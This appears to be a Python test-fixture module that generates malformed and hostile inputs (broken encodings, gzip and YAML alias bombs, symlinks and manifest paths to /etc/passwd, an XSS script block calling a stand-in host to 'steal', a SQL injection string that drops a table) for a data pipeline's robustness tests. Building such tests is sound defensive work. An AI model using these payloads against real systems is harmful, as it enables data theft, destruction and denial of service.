"""A corpus of bad input, generated at test time: each kind is a few files written into a sources folder.

Large or binary files are built here, never committed. Each case says what dyad must do with it: load it
(perhaps repaired) or quarantine it with a reason that names the problem. `docs/bad-input.md` is the
table of these kinds; keep the two together.
"""
from __future__ import annotations

import gzip
import io
import json
import os
import random
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
SEED_TEXT = (ROOT / "sources" / "documents" / "000_71d1eb8421b35ad3.txt").read_text(encoding="utf-8")
GOOD_DOCUMENT = "documents/zz_good.txt"  # sorts last, so a crash on an earlier bad file would hide it
SENTENCE = "Baku, 12 June 2023 (TDI): Azerbaijan and Belarus signed an agreement on trade in Baku on Monday."
CYRILLIC = "Москва, 12 июня 2023 года. Азербайджан и Беларусь подписали соглашение о торговле."
LATIN1 = "Genève, 12 June 2023. Switzerland and France signed an agreement in Genève on São Tomé aid."
INJECTION = "'); drop table dim_document; --"

Content = bytes | Callable[[Path], None]


@dataclass(frozen=True)
class DocumentCase:
    """Files to write under the sources folder and what must become of the first one."""

    kind: str
    files: dict[str, Content]
    outcome: str  # "loaded" | "quarantined" | "ignored"
    reason: str = ""  # text a quarantine reason must contain (case-insensitive); for "loaded", a side note
    text_has: tuple[str, ...] = ()  # text the loaded document must contain
    text_lacks: tuple[str, ...] = ()  # text the loaded document must not contain
    check: dict[str, object] = field(default_factory=dict)  # DocumentRaw column -> expected value
    what_dyad_does: str = ""
    part: str = ""  # for "loaded": a quarantine row of this file for the part that was left out (its reason)
    part_ref: str = ""  # and its row_ref ("line 3")
    source: str = ""  # the quarantine source when it is not the first file's name (a name that is not UTF-8)

    @property
    def relpath(self) -> str:
        return self.source or next(iter(self.files))


def write_sources(root: Path, files: dict[str, Content], good: bool = True) -> Path:
    """Write the files (bytes, or a callable that writes at the path) and a good document beside them."""
    for rel, content in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if callable(content):
            content(path)
        else:
            path.write_bytes(content)
    if good:
        (root / GOOD_DOCUMENT).parent.mkdir(parents=True, exist_ok=True)
        (root / GOOD_DOCUMENT).write_text(SEED_TEXT, encoding="utf-8")
    return root


def _enormous(path: Path, megabytes: int = 50) -> None:
    block = (SENTENCE + "\n") * (2**20 // (len(SENTENCE) + 1))
    with path.open("w", encoding="utf-8") as handle:
        for _ in range(megabytes):
            handle.write(block)


def _symlink(target: str) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        os.symlink(target, path)
    return make


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _long_article(path: Path) -> None:
    """9.5 MB of news text: under the 10 MB document limit, over the extraction budget."""
    block = (SENTENCE + " The ministers met again.\n") * 1000
    with path.open("w", encoding="utf-8") as handle:
        while handle.tell() < 9.5 * 2**20 - len(block):
            handle.write(block)


def _symlink_loop(path: Path) -> None:
    partner = path.with_name("loop_b.txt")
    os.symlink(partner, path)
    os.symlink(path, partner)


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, text in members.items():  # a fixed date: the bytes (and the page's example) never change
            archive.writestr(zipfile.ZipInfo(name, date_time=(2023, 6, 12, 0, 0, 0)), text)
    return buffer.getvalue()


def _folder_with_doc(path: Path) -> None:
    path.mkdir()
    (path / "inside.txt").write_text(SENTENCE, encoding="utf-8")


def _manifest(*entries: dict) -> bytes:
    """A sources.toml with the given [[source]] entries."""
    lines = []
    for entry in entries:
        lines.append("[[source]]")
        lines += [f"{key} = {json.dumps(value)}" for key, value in entry.items()]
    return ("\n".join(lines) + "\n").encode("utf-8")


def _html(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head><title>Talks</title>{head}</head><body>{body}</body></html>".encode()


RANDOM_BYTES = random.Random(5).randbytes(4096)
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + RANDOM_BYTES[:512]
SCRIPTS = (
    "<script>document.write('INJECTED'); fetch('http://198.51.100.7/steal')</script>"
    "<script src='http://198.51.100.7/x.js'></script><style>p{color:red}</style>"
    "<img src='http://198.51.100.7/pixel.gif' onerror=\"alert('XSS')\">"
    "<iframe src='http://198.51.100.7/frame'></iframe><link rel='stylesheet' href='http://198.51.100.7/s.css'>"
)

DOCUMENT_CASES: list[DocumentCase] = [
    DocumentCase("empty file", {"documents/empty.txt": b""}, "quarantined", "empty file",
                 what_dyad_does="quarantined: 'empty file'"),
    DocumentCase("only whitespace", {"documents/blank.md": b" \n\t\r\n   \n"}, "quarantined", "only whitespace",
                 what_dyad_does="quarantined: 'empty file: only whitespace'"),
    DocumentCase("binary data with a .txt name (PNG)", {"documents/picture.txt": PNG}, "quarantined",
                 "binary content", what_dyad_does="quarantined: 'binary content: not text'"),
    DocumentCase("random bytes with an .html name", {"documents/noise.html": RANDOM_BYTES}, "quarantined",
                 "binary content", what_dyad_does="quarantined: 'binary content: not text'"),
    DocumentCase("a PDF in the documents folder", {"documents/report.pdf": b"%PDF-1.4\n1 0 obj\x00\x01\x02stream"
                                                   + RANDOM_BYTES[:256]}, "quarantined", "binary content",
                 what_dyad_does="quarantined: 'binary content: not text' (dyad reads txt, md and html)"),
    DocumentCase("one NUL byte inside text", {"documents/nul.txt": SENTENCE.encode() + b"\x00" + SENTENCE.encode()},
                 "loaded", text_has=("on Monday.Baku, 12 June",), part="1 NUL byte removed", part_ref="line 1",
                 what_dyad_does="loaded without the NUL; line 1 quarantined: '1 NUL byte removed, the text around "
                                "it is loaded'"),
    DocumentCase("NUL bytes on two lines", {"documents/nuls.txt": SENTENCE.encode() + b"\n\nSecond\x00\x00 line.\n"
                                            + b"Third\x00 line.\n" + (SENTENCE.encode() + b"\n") * 3},
                 "loaded", text_has=("Second line.\nThird line.",), part="2 NUL bytes removed", part_ref="line 3",
                 what_dyad_does="loaded without the NULs; one quarantine row a line that held them"),
    DocumentCase("control characters instead of text", {"documents/control.txt": bytes(range(1, 9)) * 40 + b"ok"},
                 "quarantined", "binary content", what_dyad_does="quarantined: 'binary content: not text'"),
    DocumentCase("truncated file cut inside a UTF-8 character",
                 {"documents/cut.txt": (SENTENCE + " Москва").encode()[:-1]}, "loaded",
                 text_has=("signed an agreement", "Моск"), check={"encoding": "utf-8"},
                 what_dyad_does="loaded as UTF-8 without the cut character (not re-read as latin-1 mojibake)"),
    DocumentCase("truncated HTML cut inside a tag",
                 {"documents/cut.html": _html(f"<article><p>{SENTENCE}</p><p>The ministers met")[:-30] + b"<di"},
                 "loaded", text_has=("signed an agreement",),
                 what_dyad_does="loaded: the parser closes what the file left open"),
    DocumentCase("UTF-8 byte-order mark", {"documents/bom.txt": b"\xef\xbb\xbf" + SENTENCE.encode()}, "loaded",
                 check={"encoding": "utf-8-sig"}, text_has=("Baku",),
                 what_dyad_does="loaded; the BOM is dropped so offsets start at the first letter"),
    DocumentCase("UTF-16 with a byte-order mark", {"documents/utf16.txt": SENTENCE.encode("utf-16")}, "loaded",
                 check={"encoding": "utf-16"}, text_has=("signed an agreement",), what_dyad_does="loaded"),
    DocumentCase("UTF-16 without a byte-order mark", {"documents/utf16le.txt": SENTENCE.encode("utf-16-le")},
                 "loaded", check={"encoding": "utf-16-le"}, text_has=("signed an agreement",),
                 what_dyad_does="loaded: the alternating NUL bytes give the byte order away"),
    DocumentCase("cp1251 (Windows Cyrillic) text", {"documents/cyrillic.txt": CYRILLIC.encode("cp1251")}, "loaded",
                 check={"encoding": "cp1251"}, text_has=("Азербайджан и Беларусь",),
                 what_dyad_does="loaded: decoded as cp1251 when the high bytes come in Cyrillic runs"),
    DocumentCase("latin-1 text", {"documents/latin1.txt": LATIN1.encode("latin-1")}, "loaded",
                 check={"encoding": "latin-1"}, text_has=("Genève", "São Tomé"), what_dyad_does="loaded"),
    DocumentCase("cp1252 curly quotes and dashes", {"documents/cp1252.txt": "“Talks” – Paris’ view".encode("cp1252")},
                 "loaded", check={"encoding": "cp1252"}, text_has=("“Talks” – Paris’ view",),
                 what_dyad_does="loaded"),
    DocumentCase("HTML declaring windows-1251", {"documents/declared.html": _html(
        f"<article><p>{CYRILLIC}</p></article>", "<meta charset='windows-1251'>").decode().encode("cp1251")},
                 "loaded", text_has=("Азербайджан",), check={"encoding": "cp1251"},
                 what_dyad_does="loaded with the charset the page declares"),
    DocumentCase("mixed line endings (CRLF, CR, LF)",
                 {"documents/endings.txt": b"Talks in Baku\r\n\r\n" + SENTENCE.encode() + b"\rSecond line.\nThird.\r\n"},
                 "loaded", text_lacks=("\r",), text_has=("Monday.\nSecond line.\nThird.",),
                 what_dyad_does="loaded; every line ending becomes \\n before offsets are taken"),
    DocumentCase("a document with no date anywhere",
                 {"documents/undated.txt": b"Azerbaijan and Belarus signed an agreement on trade."}, "loaded",
                 check={"published_date": None, "published_source": None},
                 what_dyad_does="loaded with no publication date; relative dates in it stay unresolved"),
    DocumentCase("a future publication date in the dateline",
                 {"documents/future.txt": SENTENCE.replace("2023", "2099").encode()}, "loaded",
                 check={"published_date": None}, part="the dateline date 2099-06-12 is in the future", part_ref="line 1",
                 what_dyad_does="loaded without a date; line 1 quarantined: 'the dateline date 2099-06-12 is in the "
                                "future: ignored, the text is loaded without it'"),
    DocumentCase("a future publication date in the manifest",
                 {"documents/future_manifest.txt": SENTENCE.encode(),
                  "sources.toml": _manifest({"path": "documents/future_manifest.txt", "published": "2101-01-01"})},
                 "loaded", check={"published_date": "2023-06-12", "published_source": "dateline"},
                 part="the manifest date 2101-01-01 is in the future", part_ref="manifest",
                 what_dyad_does="loaded with the next date it states (the dateline's); the manifest date quarantined "
                                "(row_ref manifest)"),
    DocumentCase("a dateline at the calendar's end (31 December 9999)",
                 {"documents/year9999.txt": SENTENCE.replace("12 June 2023", "31 December 9999").encode()}, "loaded",
                 check={"published_date": None}, part="the dateline date 9999-12-31 is in the future", part_ref="line 1",
                 what_dyad_does="loaded without a date; the date quarantined with its line"),
    DocumentCase("only a UTF-8 byte-order mark", {"documents/only_bom.txt": b"\xef\xbb\xbf"}, "quarantined",
                 "empty file: only whitespace", what_dyad_does="quarantined: 'empty file: only whitespace'"),
    DocumentCase("CR-only line ends (classic Mac)", {"documents/cr.txt": (SENTENCE + "\r" + LATIN1 + "\r").encode()},
                 "loaded", text_has=("Monday.\nGenève",), text_lacks=("\r",),
                 what_dyad_does="loaded; CR becomes \\n before offsets are taken"),
    DocumentCase("UTF-32 with a byte-order mark", {"documents/utf32.txt": SENTENCE.encode("utf-32")}, "loaded",
                 text_has=("Azerbaijan and Belarus",), check={"encoding": "utf-32"},
                 what_dyad_does="loaded (was 'binary content: not text': its BOM starts like UTF-16's)"),
    DocumentCase("mixed encodings: UTF-8 lines and cp1251 lines in one file", {
        "documents/mixed.txt": SENTENCE.encode() + b"\n" + CYRILLIC.encode("cp1251") + b"\n" + LATIN1.encode()},
                 "loaded", text_has=(CYRILLIC, LATIN1), check={"encoding": "utf-8+cp1251"},
                 what_dyad_does="loaded line by line: UTF-8 lines as UTF-8, the others in the code page they read as "
                                "(was one whole-file guess: 'Genève' became 'GenГЁve')"),
    DocumentCase("one very long line (5 MB, no line break)",
                 {"documents/long_line.txt": ((SENTENCE + " ") * 50_000).encode()}, "loaded",
                 text_has=("Azerbaijan and Belarus",), what_dyad_does="loaded (under the 10 MB limit)"),
    DocumentCase("zero-width and bidi controls in the text", {"documents/bidi.txt": (
        "Baku, 12 June 2023 (TDI): Azer\u200bbaijan and \u202eBelarus\u202c signed an agreement.").encode()},
                 "loaded", text_has=("\u200b", "\u202e"),
                 what_dyad_does="loaded as written: the text is data, never shown through a terminal unescaped"),
    DocumentCase("HTML with only a style sheet", {"documents/style.html": _html("<style>p { color: red }</style>")},
                 "quarantined", "no text left after reading the html markup",
                 what_dyad_does="quarantined: 'no text left after reading the html markup'"),
    DocumentCase("a gzipped document (article.txt.gz)", {"documents/gzipped.txt.gz": gzip.compress(SENTENCE.encode(), mtime=0)},
                 "loaded", text_has=("Azerbaijan and Belarus",), check={"format": "txt"},
                 what_dyad_does="loaded: unpacked as a stream, stopped past the 10 MB document limit"),
    DocumentCase("a gzip inside a gzip (nested archive)",
                 {"documents/nested.txt.gz": gzip.compress(gzip.compress(SENTENCE.encode(), mtime=0), mtime=0)}, "quarantined",
                 "an archive inside a gzip file", what_dyad_does="quarantined: 'an archive inside a gzip file: not "
                                                                 "unpacked further; unpack it'"),
    DocumentCase("a gzip bomb as a document", {"documents/bomb.txt.gz": gzip.compress(b" " * (40 << 20), mtime=0)},
                 "quarantined", "too large once unpacked",
                 what_dyad_does="quarantined after 10 MB unpacked: 'too large once unpacked: more than the 10 MB limit'"),
    DocumentCase("a zip archive in the documents folder", {"documents/archive.zip": _zip({"inner.txt": SENTENCE})},
                 "quarantined", "a zip archive: dyad does not unpack archives",
                 what_dyad_does="quarantined: 'a zip archive: dyad does not unpack archives; unpack it into the "
                                "documents folder'"),
    DocumentCase("the same article under two names", {"documents/copy_one.txt": SENTENCE.encode(),
                                                       "documents/copy_two.txt": SENTENCE.encode()},
                 "loaded", text_has=("Azerbaijan and Belarus",),
                 what_dyad_does="both loaded, each under its own path (see Known limits): nothing is dropped"),
    DocumentCase("a folder named like a file (documents/folder.txt/)", {"documents/folder.txt": _folder_with_doc},
                 "ignored", what_dyad_does="walked as a folder: the document inside it loads (not a file itself)"),
    DocumentCase("an enormous document (50 MB)", {"documents/enormous.txt": _enormous}, "quarantined",
                 "too large: 50.0 MB is over the 10 MB limit",
                 what_dyad_does="quarantined before it is read: 'too large: 50.0 MB is over the 10 MB limit'"),
    DocumentCase("deeply nested HTML (100,000 levels)", {"documents/deep.html": _html(
        "<article>" + "<div>" * 100_000 + f"<p>{SENTENCE}</p>" + "</div>" * 100_000 + "</article>")},
                 "quarantined", "nested 100003 elements deep",
                 what_dyad_does="quarantined: 'HTML nested 100003 elements deep (more than 1000)'"),
    DocumentCase("HTML opening with <!--> before 100,000 nested elements", {"documents/abrupt.html": (
        "<!-->" + _html("<article>" + "<div>" * 100_000 + f"<p>{SENTENCE}</p>" + "</div>" * 100_000
                       + "</article><!-- end -->").decode()).encode()}, "quarantined", "elements deep",
                 what_dyad_does="quarantined by the depth guard: '<!-->' is an empty comment, as the parser reads it"),
    DocumentCase("a comment closed with --!> before deep nesting", {"documents/bang.html": _html(
        "<!-- a --!><article>" + "<div>" * 5_000 + f"<p>{SENTENCE}</p>" + "</div>" * 5_000 + "</article><!-- -->")},
                 "quarantined", "elements deep", what_dyad_does="quarantined by the depth guard"),
    DocumentCase("a 9.5 MB article (under the 10 MB limit)", {"documents/long.txt": _long_article}, "loaded",
                 text_has=("signed an agreement",),
                 what_dyad_does="loaded; its extraction is over the 2,000,000-character budget: one extract "
                                "quarantine row, the run goes on (tests/robustness/test_extract_budget.py)"),
    DocumentCase("nested HTML within the limit (800 levels)", {"documents/nested.html": _html(
        "<article>" + "<div>" * 800 + f"<p>{SENTENCE}</p>" + "</div>" * 800 + "</article>")},
                 "loaded", text_has=("signed an agreement",),
                 what_dyad_does="loaded (the text walk is iterative: no recursion limit)"),
    DocumentCase("script-laden HTML", {"documents/scripts.html": _html(
        f"{SCRIPTS}<article>{SCRIPTS}<p>{SENTENCE}</p><script>alert('XSS')</script></article>")}, "loaded",
                 text_has=("signed an agreement",), text_lacks=("INJECTED", "alert", "XSS", "198.51.100.7", "color"),
                 what_dyad_does="loaded: scripts, styles, frames and images dropped unrun; nothing fetched"),
    DocumentCase("HTML that is only scripts", {"documents/only_scripts.html": _html(SCRIPTS * 3)}, "quarantined",
                 "no text left after reading the html markup",
                 what_dyad_does="quarantined: 'no text left after reading the html markup'"),
    DocumentCase("deeply nested JSON-LD in HTML", {"documents/jsonld.html": _html(
        f"<article><p>{SENTENCE}</p></article>",
        "<script type='application/ld+json'>" + "[" * 50_000 + "]" * 50_000 + "</script>")},
                 "loaded", text_has=("signed an agreement",),
                 what_dyad_does="loaded: JSON-LD that cannot be parsed gives no date, the article stays"),
    DocumentCase("an impossible front-matter date (30 February)", {"documents/feb30.md": (
        "---\ntitle: Talks\ndate: 2023-02-30\n---\n" + SENTENCE).encode()}, "loaded",
                 text_has=("signed an agreement",), check={"title": "Talks", "published_date": "2023-06-12",
                                                           "published_source": "dateline"},
                 part="front-matter date '2023-02-30' is not a plausible calendar date", part_ref="line 3",
                 what_dyad_does="loaded with the dateline's date; line 3 quarantined: the front-matter date is "
                                "not a plausible calendar date"),
    DocumentCase("a front-matter date in year 1", {"documents/year1.md": (
        "---\ntitle: Talks\npublished: 0001-01-01\n---\n" + SENTENCE).encode()}, "loaded",
                 check={"published_date": "2023-06-12"}, part="'0001-01-01' is not a plausible", part_ref="line 3",
                 what_dyad_does="loaded; the date (before 1800) is quarantined, not passed to the date grammar"),
    DocumentCase("Markdown with broken front matter", {"documents/broken.md": (
        "---\ntitle: [unclosed\ndate: : :\n---\n" + SENTENCE).encode()}, "loaded", text_has=("signed an agreement",),
                 what_dyad_does="loaded: the body is kept, the broken metadata dropped"),
    DocumentCase("YAML alias bomb in front matter", {"documents/bomb.md": (
        "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
        "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
        "g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\nh: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]\ntitle: *h\noutlet: *h\n---\n"
        + SENTENCE).encode()}, "loaded", check={"title": None, "outlet": "TDI"}, text_has=("signed an agreement",),
                 what_dyad_does="loaded: a title or outlet that is a list is no title (never expanded)"),
    DocumentCase("SQL in a document text", {"documents/injection.txt": f"{SENTENCE}\n\nThe minister said {INJECTION}"
                                     .encode()}, "loaded", text_has=(INJECTION,),
                 what_dyad_does="loaded as text: values go to DuckDB as Arrow frames, never pasted into SQL"),
    DocumentCase("file name with spaces, quotes and non-ASCII",
                 {"documents/Talks in Baku – “Ъ” 'x'.txt": SENTENCE.encode()}, "loaded", text_has=("Baku",),
                 what_dyad_does="loaded; the name is data, never part of a statement"),
    DocumentCase("SQL in a document file name", {f"documents/{INJECTION}.txt": SENTENCE.encode()}, "loaded",
                 text_has=("signed an agreement",),
                 what_dyad_does="loaded; the path is a value in a frame, every table survives"),
    DocumentCase("a manifest entry for a missing file", {
        "sources.toml": _manifest({"path": "documents/missing.txt", "kind": "document"})}, "quarantined",
                 "manifest lists 'documents/missing.txt' but no such file exists",
                 what_dyad_does="quarantined (source sources.toml, row documents/missing.txt)"),
    DocumentCase("a manifest path that leaves the folder (../../etc/passwd)", {
        "sources.toml": _manifest({"path": "../../etc/passwd", "kind": "document"})}, "quarantined",
                 "manifest path '../../etc/passwd' leaves the sources folder",
                 what_dyad_does="quarantined; the file is never opened"),
    DocumentCase("a manifest path through the folder and back (documents/../../x)", {
        "sources.toml": _manifest({"path": "documents/../../outside.txt"})}, "quarantined",
                 "leaves the sources folder", what_dyad_does="quarantined; the file is never opened"),
    DocumentCase("an absolute manifest path", {"sources.toml": _manifest({"path": "/etc/passwd"})}, "quarantined",
                 "manifest path '/etc/passwd' leaves the sources folder",
                 what_dyad_does="quarantined; the file is never opened"),
    DocumentCase("a symlink out of the sources folder", {"documents/passwd.txt": _symlink("/etc/passwd")},
                 "quarantined", "symlink leaves the sources folder",
                 what_dyad_does="quarantined; the target is never read"),
    DocumentCase("a symlinked folder out of the sources folder", {"documents/etc": _symlink("/etc")},
                 "quarantined", "symlink leaves the sources folder",
                 what_dyad_does="quarantined; nothing under it is walked"),
    DocumentCase("a symlink loop", {"documents/loop_a.txt": _symlink_loop}, "quarantined", "symlink loop",
                 what_dyad_does="quarantined: 'symlink loop: the link points back at itself'"),
    DocumentCase("a dangling symlink", {"documents/dangling.txt": _symlink("nowhere.txt")}, "quarantined",
                 "cannot read file: No such file or directory", what_dyad_does="quarantined"),
    DocumentCase("a symlink to a FIFO", {"documents/pipe_link.txt": _symlink("fifo/pipe.txt"),
                                         "documents/fifo/pipe.txt": _fifo}, "quarantined", "FIFO",
                 what_dyad_does="quarantined: 'a FIFO (named pipe), not a file: not read' (never opened: it would "
                                "block)"),
    DocumentCase("a FIFO in the documents folder", {"documents/pipe.txt": _fifo}, "quarantined", "FIFO",
                 what_dyad_does="quarantined: 'a FIFO (named pipe), not a file: not read'"),
    DocumentCase("a file name that is not valid UTF-8", {os.fsdecode(b"documents/caf\xe9.txt"): SENTENCE.encode()},
                 "quarantined", "not valid UTF-8", source="documents/caf\\xe9.txt",
                 what_dyad_does="quarantined as 'documents/caf\\xe9.txt': 'the file name is not valid UTF-8: "
                                "rename the file'"),
    DocumentCase("a manifest path spelled ./documents/x.txt", {
        "documents/dotted.txt": SENTENCE.replace(", 12 June 2023", "").encode(),
        "sources.toml": _manifest({"path": "./documents/dotted.txt", "published": "2023-06-01"})},
                 "loaded", check={"published_date": "2023-06-01", "published_source": "manifest"},
                 what_dyad_does="loaded with the entry's metadata: './' and '//' are spelling, not identity"),
    DocumentCase("a manifest entry whose kind is not text (kind = 5)", {
        "documents/kind5.txt": SENTENCE.encode(), "sources.toml": _manifest({"path": "documents/kind5.txt", "kind": 5})},
                 "loaded", "kind 5 is not one of document, table",
                 what_dyad_does="loaded as its folder says; the entry's kind is quarantined (source sources.toml)"),
    DocumentCase("a manifest entry with an unknown kind ('documents')", {
        "documents/kinds.txt": SENTENCE.encode(),
        "sources.toml": _manifest({"path": "documents/kinds.txt", "kind": "documents"})},
                 "loaded", "kind 'documents' is not one of document, table",
                 what_dyad_does="loaded as its folder says (not lost); the entry's kind is quarantined"),
    DocumentCase("a manifest entry whose format is a list", {
        "documents/fmt.txt": SENTENCE.encode(),
        "sources.toml": _manifest({"path": "documents/fmt.txt", "format": ["txt"]})},
                 "loaded", "format ['txt'] is not text: ignored",
                 what_dyad_does="loaded; the entry's format is quarantined"),
    DocumentCase("a manifest entry without a path", {"sources.toml": _manifest({"kind": "document"})},
                 "quarantined", "manifest entry has no 'path'", what_dyad_does="quarantined"),
    DocumentCase("the same file twice in the manifest", {
        "documents/twice.txt": SENTENCE.encode(),
        "sources.toml": _manifest({"path": "documents/twice.txt", "published": "2023-06-12"},
                                  {"path": "documents/twice.txt", "published": "2020-01-01"})},
                 "loaded", "manifest lists 'documents/twice.txt' again: the first entry is used",
                 check={"published_date": "2023-06-12"},
                 what_dyad_does="loaded with the first entry; the second is quarantined ('lists ... again')"),
    DocumentCase("a hidden file (.DS_Store)", {"documents/.DS_Store": b"\x00\x00\x00\x01Bud1" + RANDOM_BYTES[:64]},
                 "ignored", what_dyad_does="not a source: names starting with '.' are skipped"),
]

PUBLISHED_HEADER = ("period_start,period_end,measure,exporter_iso3,importer_iso3,value_usd,qualifier,reported_by,"
                    "speaker,source_url,note\n")
PUBLISHED_ROW = "2021-01,2021-12,turnover,AZE,BLR,424400000,exact,AZE,Statistics office,https://example.org/a,\n"
_V1 = (ROOT / "tests" / "fixtures" / "tables" / "comtrade" / "aze_blr_v1.csv").read_text(encoding="utf-8")
V1_HEADER, V1_ROW = _V1.splitlines()[0], _V1.splitlines()[1]  # AZE -> BLR exports 2022, TOTAL, 1000 USD
V1_VALUES = ",1000,1000,0,True"
V1_JSON_RECORD = json.loads((ROOT / "tests" / "fixtures" / "tables" / "comtrade" / "aze_blr_v1.json")
                            .read_text(encoding="utf-8"))["data"][0]
_LEGACY = (ROOT / "tests" / "fixtures" / "tables" / "legacy" / "aze_geo_legacy.csv").read_text(encoding="utf-8")
LEGACY_HEADER = _LEGACY.splitlines()[0]
# milk (HS 0401) from Georgia to Azerbaijan, 2021: net 60 kg, gross 70 kg, 120 USD
LEGACY_ROW = "HS,2021,2021,2021,2,0,1,Import,31,,,268,,,,,,,,,,401,{name},1,No Quantity,,,,,60,70,120,,,0"
GOOD_TABLE = "tables/zz_good_reported.csv"
GOOD_TABLE_BYTES = (PUBLISHED_HEADER + PUBLISHED_ROW.replace("2021-01,2021-12", "2019-01,2019-12")).encode()


def published(*rows: str) -> bytes:
    return (PUBLISHED_HEADER + "".join(rows)).encode("utf-8")


def v1(*rows: str) -> bytes:
    return (V1_HEADER + "\n" + "\n".join(rows) + "\n").encode("utf-8")


def legacy(*rows: str) -> bytes:
    return (LEGACY_HEADER + "\n" + "\n".join(rows) + "\n").encode("utf-8")


def _bomb(rows: int = 600_000) -> bytes:
    """A gzip of published figures that unpacks ~1000 times over (the same line again and again)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)  # 31: a gzip header
    data = [packer.compress(PUBLISHED_HEADER.encode())]
    line = PUBLISHED_ROW.encode() * 1000
    for _ in range(rows // 1000):
        data.append(packer.compress(line))
    return b"".join(data) + packer.flush()


def v1_value(value: str) -> str:
    return V1_ROW.replace(V1_VALUES, f",{value},{value},0,True")


@dataclass(frozen=True)
class TableCase:
    """One bad statistics file and what ingest_tables must make of it."""

    kind: str
    relpath: str
    content: bytes
    reason: str = ""  # text one quarantine row's reason must contain (case-insensitive); "" for none
    row_ref: str = ""  # the row_ref of that quarantine row, when the problem is one row
    loaded: int | None = None  # rows that must load
    what_dyad_does: str = ""


TABLE_CASES: list[TableCase] = [
    TableCase("empty table file", "tables/empty.csv", b"", "empty", "file", 0,
              what_dyad_does="quarantined: 'empty file' / 'empty file: only whitespace'"),
    TableCase("table file of only whitespace", "tables/blank.csv", b"  \n\n \n", "empty", "file", 0,
              what_dyad_does="quarantined: 'empty file' / 'empty file: only whitespace'"),
    TableCase("binary data with a .csv name", "tables/noise.csv", RANDOM_BYTES, "binary", "file", 0,
              what_dyad_does="quarantined: 'binary content: not text'"),
    TableCase("a spreadsheet (.xlsx)", "tables/sheet.xlsx", b"PK\x03\x04" + RANDOM_BYTES[:200],
              "not a table layout dyad reads", "file", 0,
              what_dyad_does="quarantined: 'not a table layout dyad reads (...)'"),
    TableCase("CSV header and no rows", "tables/header_only.csv", published(), "", "", 0,
              what_dyad_does="read: 0 rows in, nothing quarantined"),
    TableCase("CSV with a missing column (value_usd)", "tables/missing_column.csv",
              published().replace(b",value_usd", b"") + PUBLISHED_ROW.replace(",424400000", "").encode(),
              "value_usd", "file", 0,
              what_dyad_does="quarantined: 'a table of published figures without the column value_usd'"),
    TableCase("CSV with extra columns", "tables/extra_columns.csv",
              (PUBLISHED_HEADER.strip() + ",extra\n" + PUBLISHED_ROW.strip() + ",surplus\n").encode(), "", "", 1,
              what_dyad_does="loaded; the extra column is ignored"),
    TableCase("CSV with shifted quoting (an unclosed quote)", "tables/shifted_quote.csv",
              published(PUBLISHED_ROW.replace(",424400000", ',"424400000'),
                        PUBLISHED_ROW.replace("2021-01,2021-12", "2020-01,2020-12")),
              "quote", "line 2", 1,
              what_dyad_does="line 2 quarantined: 'not valid CSV: an unclosed or stray quote'; line 3 loads"),
    TableCase("CSV with its header repeated inside", "tables/duplicate_header.csv",
              published(PUBLISHED_ROW, PUBLISHED_HEADER, PUBLISHED_ROW.replace("2021", "2020")),
              "period is not YYYY-MM", "line 3", 2, what_dyad_does="the repeated header line is quarantined"),
    TableCase("CSV with a duplicate column name", "tables/duplicate_column.csv",
              (PUBLISHED_HEADER.strip() + ",value_usd\n" + PUBLISHED_ROW.strip() + ",5\n").encode(),
              "value_usd", "file", 0,
              what_dyad_does="quarantined: 'the header names the column value_usd twice: which one holds the values is unclear'"),
    TableCase("CSV with duplicate rows (published figures)", "tables/duplicate_rows.csv",
              published(PUBLISHED_ROW, PUBLISHED_ROW), "same", "line 2", 1,
              what_dyad_does="line 2 quarantined: 'the same figure as line 3 of the same file: counted once, from the later line'"),
    TableCase("a negative value (published)", "tables/negative.csv",
              published(PUBLISHED_ROW.replace("424400000", "-5")), "value_usd", "line 2", 0,
              what_dyad_does="quarantined: 'failed value_usd greater_than_or_equal_to(0) (value -5.0)'"),
    TableCase("an absurd value (published, 1e30 USD)", "tables/absurd.csv",
              published(PUBLISHED_ROW.replace("424400000", "1e30")), "value_usd", "line 2", 0,
              what_dyad_does="quarantined: value_usd above 1e13 USD (more than a year of world trade)"),
    TableCase("a thousands separator ('1,234.5', published)", "tables/thousands.csv",
              published(PUBLISHED_ROW.replace("424400000", '"1,234.5"')), "", "", 1,
              what_dyad_does="loaded as 1234.5 (published figures strip separators)"),
    TableCase("'n/a' as a number (published)", "tables/not_a_number.csv",
              published(PUBLISHED_ROW.replace("424400000", "n/a")), "value_usd is not a number", "line 2", 0,
              what_dyad_does="quarantined: 'value_usd is not a number'"),
    TableCase("an unknown country code (published)", "tables/unknown_country.csv",
              published(PUBLISHED_ROW.replace("BLR", "QQQ", 1)), "QQQ is not in dim_country", "line 2", 0,
              what_dyad_does="quarantined: 'country AZE or QQQ is not in dim_country'"),
    TableCase("a period that is not a period (published)", "tables/bad_period.csv",
              published(PUBLISHED_ROW.replace("2021-01", "last year")), "period is not YYYY-MM", "line 2", 0,
              what_dyad_does="quarantined: 'period is not YYYY-MM'"),
    TableCase("a month 13 (published)", "tables/month13.csv", published(PUBLISHED_ROW.replace("2021-01", "2021-13")),
              "period is not YYYY-MM", "line 2", 0, what_dyad_does="quarantined: 'period is not YYYY-MM'"),
    TableCase("a row with too few fields", "tables/short_row.csv",
              published("2021-01,2021-12,turnover\n", PUBLISHED_ROW), "value_usd", "line 2", 1,
              what_dyad_does="quarantined (missing fields are null): 'value_usd is not a number'"),
    TableCase("a row with too many fields", "tables/long_row.csv",
              published(PUBLISHED_ROW.strip() + ",a,b,c\n", PUBLISHED_ROW.replace("2021", "2020")), "fields",
